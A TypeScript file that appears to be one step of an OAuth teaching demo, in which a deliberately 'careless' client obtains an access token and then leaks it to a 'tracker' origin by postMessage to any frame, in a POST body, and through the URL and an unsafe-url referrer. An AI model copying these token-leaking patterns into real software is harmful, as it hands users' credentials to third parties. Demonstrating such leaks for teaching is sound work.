import { CARELESS } from '../../careless/clients';
import { originOf } from '../../hosts';
import { carelessFor, codeHere, signIn, trade } from '../../page/by-hand';
import { frameOf } from '../../page/frame';
import { HERE } from '../../page/here';
import { runJourney } from '../../page/journey';

const shop = carelessFor(CARELESS.long, 'orders:read');
const TRACKER = originOf('tracker');
let token = '';

runJourney(
  {
    'sign-in': () => signIn('sign-in', shop),
    async trade() {
      ({ access_token: token } = await trade(shop, codeHere() ?? ''));
      return 'The access token is good until tomorrow.';
    },
    async post() {
      const { contentWindow } = await frameOf(`${TRACKER}/frame`);
      contentWindow?.postMessage({ type: 'session', access_token: token }, '*');
      return 'Whatever is in the frame has heard it.';
    },
    async send() {
      const body = JSON.stringify({ event: 'visit', access_token: token });
      const { status } = await fetch(`${TRACKER}/collect`, { method: 'POST', body });
      return `The third party answered ${status}.`;
    },
    async visit() {
      history.replaceState(null, '', `${HERE}?${new URLSearchParams({ access_token: token })}`);
      const { status } = await fetch(`${TRACKER}/pixel`, { referrerPolicy: 'unsafe-url' });
      history.replaceState(null, '', HERE);
      return `The third party answered ${status}.`;
    },
  },
  'The code is here.',
);
